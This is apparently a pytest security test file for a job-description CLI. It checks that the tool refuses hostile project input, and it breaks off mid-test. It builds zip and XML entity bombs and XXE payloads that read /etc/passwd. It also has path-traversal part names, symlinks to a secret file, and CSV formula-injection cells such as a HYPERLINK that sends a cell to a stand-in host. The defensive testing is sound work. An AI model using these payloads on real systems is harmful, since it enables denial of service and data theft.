"""Hostile input: links out of the project, pipes, zip and entity bombs, formulas, invisible text.

Project files are untrusted (a pull request checked by CI may add any of
these); every case must end in a located refusal that quotes nothing secret,
never in a hang, a traceback or a memory blow-up. The bombs are made here,
small on disk and huge inflated; nothing large is committed.
"""

from __future__ import annotations

import csv
import functools
import io
import os
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
import yaml

from ametijuhend_cli.errors import DataError
from ametijuhend_cli.messages import excerpt
from ametijuhend_cli.organization.spreadsheet import cell, write_csv
from ametijuhend_cli.sources import ooxml
from ametijuhend_cli.sources.files import read_project_file
from conftest import REPO, edit, run

SECRET = "SECRET-TOKEN-4f1c9a77e2b04d"
PID = "teenusejuht-kov"
needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes")


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """Return a file outside the project holding a secret, in YAML that would load."""
    path = tmp_path / "secret.yaml"
    path.write_text(f"api_token: {SECRET}\n{SECRET}: {SECRET}\n", encoding="utf-8")
    return path


def _link(project: Path, rel: str, target: Path) -> None:
    where = project / rel
    where.parent.mkdir(parents=True, exist_ok=True)
    where.unlink(missing_ok=True)
    where.symlink_to(target)


def _everything(project: Path) -> str:
    """Return every output the tool wrote, as text (to look for the secret in)."""
    out = project / "out"
    files = [p for p in out.rglob("*") if p.is_file()] if out.is_dir() else []
    return "".join(p.read_bytes().decode("utf-8", "replace") for p in files)


# --- 1. links out of the project, pipes, devices ------------------------------

LINKED = [
    f"data/positions/{PID}.yaml",
    "data/positions/zz.yaml",
    "data/library/rights.yaml",
    "data/library/competencies.yaml",
    "data/organization.yaml",
    "templates/wording.yaml",
    "templates/position.md.j2",
    "templates/report.md.j2",
    "ametijuhend.yaml",
]
#: templates that only some commands read
ONLY_READ_BY = {
    "templates/position.md.j2": {"build", "validate"},
    "templates/report.md.j2": {"report"},
}
COMMANDS = [
    ["validate", "--today", "2026-06-01"],
    ["build", "--format", "md"],
    ["list", "--format", "csv"],
    ["report", "--today", "2026-06-01"],
    ["review", "--today", "2026-06-01"],
]


@pytest.mark.parametrize("rel", LINKED)
@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: a[0])
def test_a_link_out_of_the_project_is_refused_and_its_secret_never_shown(
    project: Path, secret: Path, rel: str, args: list[str]
) -> None:
    _link(project, rel, secret)
    result = run(*args)
    assert SECRET not in result.stdout + result.stderr
    assert SECRET not in _everything(project)
    assert "Traceback" not in result.stderr
    if rel in ONLY_READ_BY and args[0] not in ONLY_READ_BY[rel]:
        assert result.exit_code == 0, result.stderr  # the command does not read that file
        return
    assert result.exit_code == 1, (result.stdout, result.stderr)
    assert "the file is a link to a file outside the project; it is not read" in result.stderr


def test_a_relative_link_climbing_out_is_refused(project: Path, secret: Path) -> None:
    (project / "data/positions/zz.yaml").symlink_to(Path("../../../secret.yaml"))
    result = run("validate")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "data/positions/zz.yaml: the file is a link to a file outside the project; it is not read"
    )
    assert SECRET not in result.stderr


def test_a_position_linked_to_the_reference_docx_of_another_project(
    project: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other" / "reference.docx"
    other.parent.mkdir()
    other.write_bytes(b"PK\x03\x04")
    _link(project, "templates/reference.docx", other)
    result = run("build", "--format", "docx")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "templates/reference.docx: the file is a link to a file outside the project"
    )


def test_a_link_inside_the_project_is_followed(project: Path) -> None:
    shared = project / "shared"
    shared.mkdir()
    shutil.move(project / "data/library/rights.yaml", shared / "rights.yaml")
    _link(project, "data/library/rights.yaml", shared / "rights.yaml")
    assert run("validate", "--today", "2026-06-01").exit_code == 0


@needs_fifo
@pytest.mark.parametrize(
    "rel",
    ["data/library/rights.yaml", f"data/positions/{PID}.yaml", "templates/position.md.j2"],
)
@pytest.mark.parametrize("args", COMMANDS[:3], ids=lambda a: a[0])
def test_a_named_pipe_never_hangs(project: Path, rel: str, args: list[str]) -> None:
    path = project / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    result = run(*args)  # would wait for a writer for ever if opened for reading
    if rel in ONLY_READ_BY and args[0] not in ONLY_READ_BY[rel]:
        assert result.exit_code == 0
        return
    assert result.exit_code == 1
    assert "expected a regular file, found a named pipe (FIFO); it is not read" in result.stderr


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_link_to_a_device_is_refused_before_reading(project: Path, device: str) -> None:
    if not os.path.exists(device):
        pytest.skip(f"no {device}")
    _link(project, "data/library/clauses.yaml", Path(device))
    result = run("validate")
    assert result.exit_code == 1
    assert "data/library/clauses.yaml: the file is a link to a file outside the project" in (
        result.stderr
    )


def test_a_file_larger_than_the_bound_is_not_read(project: Path) -> None:
    path = project / "data/library/rights.yaml"
    with path.open("r+b") as fh:  # sparse: takes no room on the disk
        fh.truncate(9 * 1024 * 1024)
    result = run("validate")
    assert result.exit_code == 1
    assert "data/library/rights.yaml: the file is larger than 8 MB; it is not read" in (
        result.stderr
    )


def test_a_folder_named_like_a_library_file(project: Path) -> None:
    (project / "data/library/rights.yaml").unlink()
    (project / "data/library/rights.yaml").mkdir()
    result = run("validate")
    assert result.exit_code == 1
    assert "data/library/rights.yaml: expected a regular file, found a folder" in result.stderr


@needs_fifo
def test_import_and_textconv_of_a_pipe_or_a_device(project: Path, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.docx"
    os.mkfifo(pipe)
    result = run("import", str(pipe))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "../pipe.docx: expected a regular file, found a named pipe (FIFO); it is not read"
    )
    result = run("textconv", str(pipe))
    assert result.exit_code == 1
    assert result.stderr == (
        "error: ../pipe.docx: expected a regular file, found a named pipe (FIFO); it is not read\n"
    )
    if os.path.exists("/dev/zero"):
        zero = tmp_path / "zero.txt"
        zero.symlink_to("/dev/zero")
        result = run("import", str(zero))
        assert result.exit_code == 1
        assert "expected a regular file, found a device" in result.stderr


# --- 2. zip bombs and XML ------------------------------------------------------


def _docx(project: Path) -> bytes:
    result = run("build", PID, "--format", "docx")
    assert result.exit_code == 0, result.stderr
    return (project / "out" / f"{PID}.docx").read_bytes()


def _repack(
    data: bytes, replace: dict[str, bytes], extra: Sequence[tuple[str, bytes]] = ()
) -> bytes:
    """Return the package with parts replaced (by name) and added (in order)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            part = replace.get(info.filename, src.read(info))
            dst.writestr(info.filename, part, zipfile.ZIP_DEFLATED)
        for name, part in extra:
            dst.writestr(name, part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


@functools.cache  # two bombs are the same 100 MB, compressed in half a second
def _deflated(size: int, head: bytes = b"", tail: bytes = b"") -> tuple[bytes, int, int]:
    """Return raw deflate data of ``head`` + ``size`` spaces + ``tail``, its CRC and size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(head)
    chunks = [packer.compress(head)]
    block = b" " * (1 << 20)
    left = size
    while left:
        piece = block[: min(left, len(block))]
        crc = zlib.crc32(piece, crc)
        chunks.append(packer.compress(piece))
        left -= len(piece)
    crc = zlib.crc32(tail, crc)
    chunks += [packer.compress(tail), packer.flush()]
    return b"".join(chunks), crc, len(head) + size + len(tail)


def _zip_raw(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """Return a zip of (name, deflated data, crc, declared size, flags) written by hand.

    zipfile cannot write a part whose header lies about its size; a bomb does.
    """
    out = bytearray()
    central = bytearray()
    for name, packed, crc, size, flags in entries:
        encoded = name.encode("utf-8")
        offset = len(out)
        fields = (0, 0x21, crc, len(packed), size)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, *fields, len(encoded), 0)
        out += encoded + packed
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, *fields, len(encoded),
            0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += encoded
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                       start, 0)  # fmt: skip
    return bytes(out)


_DOC_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
    b'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
)
_DOC_TAIL = b"</w:t></w:r></w:p></w:body></w:document>"


def _bomb(size: int, *, declared: int | None = None) -> bytes:
    """Return a package whose document.xml inflates to ``size`` bytes (declaring ``declared``)."""
    packed, crc, real = _deflated(size, _DOC_HEAD, _DOC_TAIL)
    types = b'<?xml version="1.0"?><Types xmlns="x"/>'
    small, small_crc, small_size = _deflated(0, types)
    return _zip_raw(
        [
            ("[Content_Types].xml", small, small_crc, small_size, 0),
            ("word/document.xml", packed, crc, real if declared is None else declared, 0),
        ]
    )


BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    # 100 MB of spaces in about 100 kB: over the bound on one part's size
    "declared-over-the-bound": (
        lambda: _bomb(100 * 1024 * 1024),
        "part 'word/document.xml' inflates to more than 64 MB (a zip bomb?)",
    ),
    # 20 MB in 20 kB: a ratio of 1000
    "ratio": (
        lambda: _bomb(20 * 1024 * 1024),
        "part 'word/document.xml' inflates more than 200 times (a zip bomb?)",
    ),
    # the header says 2 kB, the data inflates to 100 MB: never read past what it declares
    "lying-header": (
        lambda: _bomb(100 * 1024 * 1024, declared=2048),
        "the zip package is damaged: a part cannot be read",
    ),
}


@pytest.mark.parametrize("name", sorted(BOMBS))
def test_a_zip_bomb_is_refused_by_import_textconv_and_build(
    project: Path, tmp_path: Path, name: str
) -> None:
    make, message = BOMBS[name]
    bomb = make()
    assert len(bomb) < 512 * 1024  # small on disk
    source = tmp_path / "bomb.docx"
    source.write_bytes(bomb)
    result = run("import", str(source))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == f"../bomb.docx: not a readable Word document: {message}"
    result = run("textconv", str(source))
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == f"error: {source}: not a readable Word document: {message}\n"
    (project / "templates").mkdir()
    (project / "templates" / "reference.docx").write_bytes(bomb)
    result = run("build", "--format", "docx")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"templates/reference.docx: not a readable Word document ({message})"
    )
    assert not (project / "out").exists() or not list((project / "out").glob("*.docx"))


ENTITY_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
    + _DOC_HEAD[_DOC_HEAD.index(b"<w:document") :]
    + b"&e;&e;&e;&e;&e;&e;&e;&e;"
    + _DOC_TAIL
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE w:ftr [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:ftr>"
)
PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd">%p;]>'
    b"<r/>"
)
UTF16 = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<r>&x;</r>"
).encode("utf-16")


@pytest.mark.parametrize(
    ("part", "xml"),
    [
        ("word/document.xml", ENTITY_BOMB),
        ("word/document.xml", EXTERNAL),
        ("word/footer1.xml", EXTERNAL),
        ("word/styles.xml", PARAMETER),
        ("[Content_Types].xml", UTF16),
        ("word/_rels/document.xml.rels", EXTERNAL),
    ],
)
def test_a_doctype_is_refused_everywhere(
    project: Path, tmp_path: Path, part: str, xml: bytes
) -> None:
    hostile = _repack(_docx(project), {part: xml})
    message = (
        f"part '{part}' declares a DOCTYPE or entities, which Word documents never do "
        "(an entity bomb or an external entity?)"
    )
    source = tmp_path / "hostile.docx"
    source.write_bytes(hostile)
    result = run("import", str(source))
    assert (
        result.stderr.splitlines()[0] == f"../hostile.docx: not a readable Word document: {message}"
    )
    result = run("textconv", str(source))
    assert result.stderr == f"error: {source}: not a readable Word document: {message}\n"
    (project / "templates").mkdir()
    (project / "templates" / "reference.docx").write_bytes(hostile)
    result = run("build", "--format", "docx")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"templates/reference.docx: not a readable Word document ({message})"
    )
    assert "root:" not in result.stderr


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("/word/evil.xml", "part '/word/evil.xml': the part name is an absolute path"),
        ("../../evil.xml", "part '../../evil.xml': the part name contains '.', '..' or '//'"),
        ("word//x.xml", "part 'word//x.xml': the part name contains '.', '..' or '//'"),
        ("word\\evil.xml", "part 'word\\evil.xml': the part name is an absolute path"),
        ("C:/evil.xml", "part 'C:/evil.xml': the part name is an absolute path"),
        ("word/dokument€.xml", "part 'word/dokument€.xml': the part name is not ASCII"),
        ("word/a\u202eb.xml", "part 'word/a\\u202eb.xml': the part name is not ASCII"),
        (
            "word/a<b>.xml",
            "part 'word/a<b>.xml': the part name has characters a package cannot use",
        ),
        ("WORD/DOCUMENT.XML", "part 'WORD/DOCUMENT.XML' appears twice"),
    ],
)
def test_part_names(project: Path, tmp_path: Path, name: str, message: str) -> None:
    hostile = _repack(_docx(project), {}, [(name, b"<x/>")])
    with pytest.raises(ooxml.PackageError) as caught:
        ooxml.read_package(hostile)
    assert str(caught.value) == message
    source = tmp_path / "names.docx"
    source.write_bytes(hostile)
    result = run("textconv", str(source))
    assert result.exit_code == 1
    assert result.stderr == f"error: {source}: not a readable Word document: {message}\n"


def test_too_many_parts(project: Path) -> None:
    hostile = _repack(_docx(project), {}, [(f"x/{i}.bin", b"") for i in range(2001)])
    with pytest.raises(ooxml.PackageError, match="the package has more than 2000 parts"):
        ooxml.read_package(hostile)


def test_the_parts_together_are_bounded(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = _docx(project)
    total = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
    monkeypatch.setattr(ooxml, "MAX_TOTAL_BYTES", total - 1)
    with pytest.raises(ooxml.PackageError, match="the parts inflate to more than"):
        ooxml.read_package(data)
    monkeypatch.setattr(ooxml, "MAX_TOTAL_BYTES", total)
    assert ooxml.read_package(data)


def test_an_encrypted_part(project: Path) -> None:
    packed, crc, size = _deflated(10, b"<x/>")
    hostile = _zip_raw([("word/document.xml", packed, crc, size, 1)])
    with pytest.raises(ooxml.PackageError, match=r"part 'word/document\.xml' is encrypted"):
        ooxml.read_package(hostile)


def test_a_huge_text_node_and_deep_nesting_are_refused() -> None:
    huge = b"<r>" + b"a" * 11_000_000 + b"</r>"
    with pytest.raises(ooxml.PackageError, match=r"part 'word/document\.xml' is not well-formed"):
        ooxml.parse_xml(huge, "word/document.xml")
    deep = b"<a>" * 300 + b"</a>" * 300
    with pytest.raises(ooxml.PackageError, match="is not well-formed"):
        ooxml.parse_xml(deep, "word/document.xml")
    assert ooxml.parse_xml(b"<a>" * 100 + b"</a>" * 100, "x.xml").tag == "a"


def test_an_ordinary_package_reads_as_before(project: Path) -> None:
    data = _docx(project)
    parts = ooxml.read_package(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert parts == {i.filename: zf.read(i) for i in zf.infolist()}
    assert run("textconv", f"out/{PID}.docx").exit_code == 0


def test_git_diff_with_a_bomb_committed_stops_with_one_line(project: Path, tmp_path: Path) -> None:
    # textconv runs inside git diff: the refusal is one line on stderr, no traceback
    source = tmp_path / "bomb.docx"
    source.write_bytes(_bomb(100 * 1024 * 1024))
    result = run("textconv", str(source))
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1
    assert "Traceback" not in result.stderr


# --- 3. formulas in CSV --------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Ava")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_neutralised(value: str) -> None:
    assert cell(value) == "'" + value
    text = write_csv(["a"], [[value]])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["a"], ["'" + value]]


@pytest.mark.parametrize("value", ["Nõunik", "Osakonna juhataja = juht", "x-1", "", "'='"])
def test_text_stays_as_it_is(value: str) -> None:
    assert cell(value) == value


def test_quotes_and_separators_inside_a_cell() -> None:
    text = write_csv(["a", "b"], [['Ütles "tere"; läks', "rida\nkaks"]])
    assert text == '\ufeff"a";"b"\r\n"Ütles ""tere""; läks";"rida\nkaks"\r\n'


def test_report_and_list_csv_neutralise_titles_units_and_managers(org: Path) -> None:
    position = org / "data/positions/spetsialist-a.yaml"
    edit(position, "title: Spetsialist", f"title: '{FORMULAS[0]}'")
    data = yaml.safe_load(position.read_text(encoding="utf-8"))
    manager = data["manager"]
    if isinstance(manager, str):
        edit(position, f"manager: {manager}", "manager: '@SUM(1,2)'")
    organization = org / "data/organization.yaml"
    edit(organization, "name: Õppe tiim", "name: '-1+2'")
    assert run("report", "--today", "2025-02-01").exit_code == 0
    text = (org / "out/report/report.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    row = next(r for r in rows if r[0] == "spetsialist-a")
    assert row[1] == "'" + FORMULAS[0]
    assert row[2] == "'-1+2"
    listed = run("list", "--format", "csv")
    rows = list(csv.reader(io.StringIO(listed.stdout.removeprefix("\ufeff")), delimiter=";"))
    row = next(r for r in rows if r[0] == "spetsialist-a")
    assert row[1] == "'" + FORMULAS[0]
    assert row[3] == "'-1+2"
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


def test_csv_headings_from_a_project_wording_are_neutralised_too(org: Path) -> None:
    (org / "templates").mkdir(exist_ok=True)
    (org / "templates/wording.yaml").write_text(
        "spreadsheet:\n  title: '=Nimetus'\n  id: Kood\n", encoding="utf-8"
    )
    listed = run("list", "--format", "csv")
    assert listed.exit_code == 0, listed.stderr
    assert listed.stdout.startswith('\ufeff"Kood";"\'=Nimetus";"Struktuuriüksuse ID"')


def test_an_imported_formula_is_neutralised_in_the_report(project: Path, tmp_path: Path) -> None:
    text = (REPO / "tests/reference" / f"{PID}.txt").read_text(encoding="utf-8")
    assert "Teenusejuht" in text
    source = tmp_path / "valem.txt"
    source.write_text(text.replace("Teenusejuht", '=HYPERLINK("http://x";"Ava")', 1), "utf-8")
    target = project / "data/positions/valem.yaml"
    result = run("import", str(source), "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert run("report", "--today", "2026-06-01").exit_code == 0
    report = (project / "out/report/report.csv").read_text(encoding="utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(report), delimiter=";") for c in r]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert '\'=HYPERLINK("http://x";"Ava")' in cells


# --- 4. invisible and direction characters ------------------------------------


def test_import_removes_invisible_and_direction_characters(project: Path, tmp_path: Path) -> None:
    text = (REPO / "tests/reference" / f"{PID}.txt").read_text(encoding="utf-8")
    assert "Teenusejuht" in text
    hostile = text.replace("Teenusejuht", "Teenuse\u200bjuht\u202e", 1).replace(
        "valdkonnas", "vald\u00adkonnas\ufeff", 1
    )
    source = tmp_path / "nahtamatu.txt"
    source.write_text(hostile, encoding="utf-8")
    target = project / "data/positions/nahtamatu.yaml"
    result = run("import", str(source), "-o", str(target))
    assert result.exit_code == 0, result.stderr
    written = target.read_text(encoding="utf-8")
    assert not any(c in written for c in "\u200b\u202e\u00ad\ufeff")
    assert (
        "removed 4 invisible characters: U+00AD SOFT HYPHEN, U+200B ZERO WIDTH SPACE, "
        "U+202E RIGHT-TO-LEFT OVERRIDE, U+FEFF ZERO WIDTH NO-BREAK SPACE"
    ) in result.stdout + result.stderr
    assert run("validate", "--today", "2026-06-01").exit_code in (0, 1)
    assert "U+200B" not in run("validate", "--today", "2026-06-01").stderr


def test_import_of_a_docx_removes_them_too(project: Path, tmp_path: Path) -> None:
    data = _docx(project)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        document = zf.read("word/document.xml").decode("utf-8")
    assert "Teenusejuht" in document
    hostile = _repack(
        data,
        {
            "word/document.xml": document.replace(
                "Teenusejuht", "Teenuse\u2066juht\u2069", 1
            ).encode()
        },
    )
    source = tmp_path / "suund.docx"
    source.write_bytes(hostile)
    target = project / "data/positions/suund.yaml"
    result = run("import", str(source), "-o", str(target))
    assert result.exit_code == 0, result.stderr
    written = target.read_text(encoding="utf-8")
    assert "\u2066" not in written and "\u2069" not in written
    assert "U+2066 LEFT-TO-RIGHT ISOLATE, U+2069 POP DIRECTIONAL ISOLATE" in result.stdout


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("kaug\u200btoo", "'kaug\\u200btoo'"),
        ("a\u202eb", "'a\\u202eb'"),
        ("tab\there", "'tab\\there'"),
        ("x" * 100, "'" + "x" * 39 + "…'"),
        ("\x1b[31mred", "'\\x1b[31mred'"),
    ],
)
def test_excerpts_are_escaped_and_short(text: str, shown: str) -> None:
    assert excerpt(text) == shown


def test_a_file_name_with_a_direction_character_is_shown_escaped(project: Path) -> None:
    source = project / "data/positions" / f"{PID}.yaml"
    shutil.copy(source, project / "data/positions/abc\u202etxt.yaml")
    result = run("validate")
    assert "abc\\u202etxt.yaml: bad file name: 'abc\\u202etxt' is not a valid id: it contains " in (
        result.stderr
    )
    assert "\u202e" not in result.stderr


def test_the_base_of_these_tests_is_a_working_project(project: Path) -> None:
    assert run("validate", "--today", "2026-06-01").exit_code == 0


@needs_fifo
def test_pipes_and_links_in_the_output_folder_are_never_read(project: Path, secret: Path) -> None:
    from ametijuhend_cli.building.manifest import MANIFEST_NAME

    assert run("build", "--format", "md").exit_code == 0
    out = project / "out"
    (out / f"{PID}.md").unlink()
    os.mkfifo(out / f"{PID}.md")
    result = run("build", "--check", "--format", "md")  # would wait for a writer
    assert result.exit_code == 1
    assert f"out/{PID}.md" in result.stdout + result.stderr
    (out / MANIFEST_NAME).unlink()
    os.mkfifo(out / MANIFEST_NAME)
    (out / f"{PID}.md").unlink()
    (out / f"{PID}.md").symlink_to(secret)
    result = run("build", "--check", "--format", "md")
    assert result.exit_code == 1
    assert SECRET not in result.stdout + result.stderr
    # a pipe where the manifest goes is not the tool's file: refused, not replaced
    result = run("build", "--format", "md")
    assert result.exit_code == 1
    assert "it is not a regular file" in result.stderr and SECRET not in result.stderr
    (out / MANIFEST_NAME).unlink()
    result = run("build", "--format", "md")
    assert result.exit_code == 0, result.stderr
    assert not (out / f"{PID}.md").is_symlink()
    assert secret.read_text(encoding="utf-8").startswith("api_token: ")


@pytest.mark.parametrize("where", [1, 3])  # the shared line's place, and a position's
def test_a_manifest_line_too_long_is_not_read_whole(
    project: Path, monkeypatch: pytest.MonkeyPatch, where: int
) -> None:
    """A committed out/ is a project file: a manifest of one endless line is damage."""
    from ametijuhend_cli.building import manifest

    assert run("build", "--format", "md").exit_code == 0
    out = project / "out"
    before = {p.name: p.read_bytes() for p in out.glob("*.md")}
    path = out / manifest.MANIFEST_NAME
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    longest = max(len(line) for line in lines)
    monkeypatch.setattr(manifest, "_MAX_LINE", longest + 1)
    monkeypatch.setattr(manifest, "_MAX_SHARED", longest + 1)
    lines.insert(where, "x\t" * 8 * longest + "\n")
    path.write_text("".join(lines), encoding="utf-8")
    rows = list(manifest.Manifest.load(out)._rows())
    assert len(rows) == (0 if where == 1 else where - 2)  # those before it, then nothing
    assert all(len(row) <= longest for _, row in rows)
    result = run("build", "--format", "md")  # the positions not read are built again
    assert result.exit_code == 0, result.stderr
    assert {p.name: p.read_bytes() for p in out.glob("*.md")} == before
    assert max(len(x) for x in path.read_text(encoding="utf-8").splitlines()) <= longest


def test_a_long_part_name_is_cut_in_the_message(project: Path) -> None:
    hostile = _repack(_docx(project), {}, [("x/" + "a" * 5000 + ".xml", b"<x/>")])
    with pytest.raises(ooxml.PackageError) as caught:
        ooxml.read_package(hostile)
    assert str(caught.value) == (
        "part 'x/" + "a" * 77 + "…': the part name is longer than 260 characters"
    )


def test_a_broken_document_part_is_located_by_textconv(project: Path, tmp_path: Path) -> None:
    source = tmp_path / "katki.docx"
    source.write_bytes(_repack(_docx(project), {"word/document.xml": b"<w:document><w:body>"}))
    result = run("textconv", str(source))
    assert result.exit_code == 1
    assert result.stderr.startswith(
        f"error: {source}: not a readable Word document: part 'word/document.xml' is not "
        "well-formed XML (line 1, column "
    )


def test_a_library_folder_linked_out_of_the_project(project: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(project / "data/library", elsewhere)
    (elsewhere / "rights.yaml").write_text(f"kaugtoo: {SECRET}\n", encoding="utf-8")
    shutil.rmtree(project / "data/library")
    (project / "data/library").symlink_to(elsewhere)
    result = run("validate")
    assert result.exit_code == 1
    assert (
        "data/library/rights.yaml: the file is outside the project (in a linked folder); "
        "it is not read"
    ) in result.stderr
    assert SECRET not in result.stdout + result.stderr


# --- names that end in a line break (issue 27) ----------------------------------


@pytest.mark.parametrize("command", [["validate"], ["build", "--format", "md"]])
def test_a_position_file_name_with_a_line_break(project: Path, command: list[str]) -> None:
    shutil.copy(project / f"data/positions/{PID}.yaml", project / "data/positions/evil\n.yaml")
    result = run(*command)
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "data/positions/evil\\n.yaml: bad file name: 'evil\\n' is not a valid id: it contains "
        "U+000A LINE FEED, a control character;"
    )
    assert "Traceback" not in result.stderr


def test_new_with_a_line_break_in_the_id(project: Path) -> None:
    result = run("new", "nounik\n", "--unit", "kov-noustamistalitus")
    assert result.exit_code == 2
    assert "'nounik\\n' is not a valid id: it contains U+000A LINE FEED" in result.stderr
    assert sorted(p.name for p in (project / "data/positions").iterdir()) == sorted(
        p.name for p in (REPO / "data/positions").iterdir()
    )


def test_a_temporary_file_name_with_a_line_break_is_not_ours(tmp_path: Path) -> None:
    from ametijuhend_cli.writing import remove_stale_temp_files

    theirs = tmp_path / ".x.md.abcdef12.tmp\n"
    theirs.write_text("not ours", encoding="utf-8")
    ours = tmp_path / ".x.md.abcdef12.tmp"
    ours.write_text("ours", encoding="utf-8")
    assert remove_stale_temp_files(tmp_path) == [ours]
    assert theirs.exists()


def test_ids_end_where_the_text_ends() -> None:
    from ametijuhend_cli.ids import is_slug

    assert is_slug("nounik")
    assert not is_slug("nounik\n")
    with pytest.raises(ooxml.PackageError, match="characters a package cannot use"):
        ooxml._check_name("word/document.xml\n")


# --- round two's regressions (issue 27) -------------------------------------------


@pytest.mark.parametrize("args", [["-q", "report"], ["report", "-q"]])
def test_quiet_report_prints_nothing(project: Path, args: list[str]) -> None:
    result = run(*args, "--today", "2026-06-01")
    assert result.exit_code == 0
    assert (result.stdout, result.stderr) == ("", "")
    assert (project / "out/report/report.md").is_file()


def test_a_root_named_through_a_link_holds_what_lies_in_its_real_folder(tmp_path: Path) -> None:
    real = tmp_path / "real"
    (real / "data").mkdir(parents=True)
    (real / "data" / "a.yaml").write_bytes(b"x: 1\n")
    link = tmp_path / "link"
    link.symlink_to(real, target_is_directory=True)
    assert read_project_file(link / "data" / "a.yaml", link) == b"x: 1\n"
    # a link inside the project to a folder of the project, the root named through a link
    (real / "inner").symlink_to(real / "data", target_is_directory=True)
    assert read_project_file(link / "inner" / "a.yaml", link) == b"x: 1\n"
    secret = tmp_path / "secret.yaml"
    secret.write_bytes(b"s: 1\n")
    (real / "data" / "out.yaml").symlink_to(secret)
    with pytest.raises(DataError, match="a link to a file outside the project"):
        read_project_file(link / "data" / "out.yaml", link)
    # a folder whose name begins with the root's is not inside it: real-2 is not in real
    sibling = tmp_path / "real-2"
    sibling.mkdir()
    (sibling / "b.yaml").write_bytes(b"b: 1\n")
    (real / "data" / "b.yaml").symlink_to(sibling / "b.yaml")
    for root in (real, link):
        with pytest.raises(DataError, match="a link to a file outside the project"):
            read_project_file(real / "data" / "b.yaml", root)


@pytest.mark.skipif(os.name != "posix", reason="the shortcut is taken on POSIX only")
def test_only_a_plain_path_below_the_root_skips_resolving(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path.resolve() / "project"
    (root / "data" / "positions").mkdir(parents=True)
    plain = root / "data" / "positions" / "a.yaml"
    plain.write_bytes(b"a: 1\n")
    (root / "linked").symlink_to(root / "data", target_is_directory=True)
    resolved: list[str] = []
    realpath = os.path.realpath

    def counted(path: str | os.PathLike[str], *, strict: bool = False) -> str:
        resolved.append(str(path))
        return realpath(path, strict=strict)

    monkeypatch.setattr(os.path, "realpath", counted)
    assert read_project_file(plain, root) == b"a: 1\n"
    assert resolved == []  # every part below the root looked at, none a link
    for unusual in (
        root / "linked" / "positions" / "a.yaml",  # a folder below the root is a link
        Path(f"{root}/data/../data/positions/a.yaml"),  # '..'
        Path(os.path.relpath(plain)),  # not written below the root
    ):
        assert read_project_file(unusual, root) == b"a: 1\n"
        assert resolved[-1] == str(unusual)
    assert len(resolved) == 3
    with pytest.raises(DataError, match="the file does not exist"):
